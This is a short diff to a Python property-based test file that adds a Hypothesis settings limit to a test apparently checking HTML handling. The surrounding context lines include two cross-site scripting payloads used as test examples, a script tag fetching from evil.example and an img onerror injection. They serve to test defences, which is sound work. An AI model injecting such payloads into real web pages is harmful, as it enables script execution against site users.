@@ -13,7 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import example, given
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from cases.caseload import Track
@@ -204,6 +204,7 @@ class Tags(HTMLParser):
         self.attributes |= {name for name, _ in attrs}
 
 
+@settings(max_examples=40)
 @given(st.text(min_size=1).filter(str.strip))
 @example("<script>fetch('//evil.example')</script>")
 @example('"><img src=//evil.example onerror=alert(1)>')
